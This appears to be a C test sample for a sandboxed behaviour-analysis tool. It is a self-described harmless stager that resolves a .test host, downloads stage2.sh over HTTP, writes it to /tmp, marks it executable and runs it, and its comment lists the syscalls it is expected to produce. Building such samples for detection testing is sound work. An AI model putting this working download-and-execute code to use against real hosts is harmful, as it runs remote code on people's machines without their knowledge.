/* Harmless "stager" for `alkanet run --network`: resolves dl.alkanet-sample.test with its own DNS query to the
   resolver of /etc/resolv.conf, downloads http://dl.alkanet-sample.test/next/stage2.sh (on the isolated network
   INetSim serves data/inetsim/alkanet-stage.sh for any .sh URL), checks the reply is "HTTP/1.x 200", writes the body
   to /tmp/stage2.sh, makes it executable and runs it. Exit 0: the stage ran and exited 0; 1..6 say which step failed.
   Expected: sendto(resolver:53), recvfrom, connect(sink:80), sendto(GET), recvfrom..., openat(/tmp/stage2.sh),
   write, chmod, clone, execve(/tmp/stage2.sh). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <fcntl.h>
#include <unistd.h>

static const char host[] = "dl.alkanet-sample.test";

/* An A query for host, sent to the first nameserver; the first answer's address. */
static int lookup(struct in_addr *addr)
{
    char line[128], ns[16] = "";
    FILE *conf = fopen("/etc/resolv.conf", "r");
    while (conf && fgets(line, sizeof line, conf)) if (sscanf(line, "nameserver %15s", ns) == 1) break;
    if (conf) fclose(conf);
    struct sockaddr_in dns = { .sin_family = AF_INET, .sin_port = htons(53) };
    if (inet_pton(AF_INET, ns, &dns.sin_addr) != 1) return -1;
    unsigned char msg[512] = { 0x51, 0x7a, 0x01, 0x00, 0x00, 0x01 }; /* id, RD, one question */
    size_t at = 12;
    for (const char *p = host; *p;) {
        size_t n = strcspn(p, ".");
        msg[at++] = (unsigned char)n;
        memcpy(msg + at, p, n);
        at += n;
        p += n + (p[n] == '.');
    }
    const unsigned char tail[] = { 0, 0, 1, 0, 1 }; /* root label, type A, class IN */
    memcpy(msg + at, tail, sizeof tail);
    size_t qlen = at + sizeof tail;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval wait = { .tv_sec = 5 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    ssize_t got = sendto(s, msg, qlen, 0, (struct sockaddr *)&dns, sizeof dns) == (ssize_t)qlen ? recv(s, msg, sizeof msg, 0) : -1;
    close(s);
    /* the answer follows the echoed question: name pointer (2), type (2), class (2), ttl (4), length (2), address (4) */
    if (got < (ssize_t)qlen + 16 || msg[0] != 0x51 || msg[7] == 0 || msg[qlen + 11] != 4) return -1;
    memcpy(addr, msg + qlen + 12, 4);
    return 0;
}

static char reply[65536];

int main(void)
{
    struct in_addr server;
    if (lookup(&server) != 0) return 1;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in web = { .sin_family = AF_INET, .sin_port = htons(80), .sin_addr = server };
    if (connect(s, (struct sockaddr *)&web, sizeof web) != 0) return 2;
    char get[256];
    int n = snprintf(get, sizeof get, "GET /next/stage2.sh HTTP/1.0\r\nHost: %s\r\nUser-Agent: alkanet-stager/1.0\r\n\r\n", host);
    if (send(s, get, (size_t)n, 0) != n) return 2;
    size_t have = 0;
    ssize_t r;
    while (have < sizeof reply - 1 && (r = recv(s, reply + have, sizeof reply - 1 - have, 0)) > 0) have += (size_t)r;
    close(s);
    char *body = strstr(reply, "\r\n\r\n");
    if (have < 12 || strncmp(reply, "HTTP/1.", 7) != 0 || strncmp(reply + 9, "200", 3) != 0 || !body) return 3;
    body += 4;
    size_t size = have - (size_t)(body - reply);
    printf("stager: downloaded %zu bytes from http://%s/next/stage2.sh\n", size, host);
    int fd = open("/tmp/stage2.sh", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, body, size) != (ssize_t)size || close(fd) != 0) return 4;
    if (chmod("/tmp/stage2.sh", 0755) != 0) return 5;
    pid_t child = fork();
    if (child == 0) {
        execl("/tmp/stage2.sh", "/tmp/stage2.sh", (char *)NULL);
        _exit(127);
    }
    int status = 0;
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : 6;
}
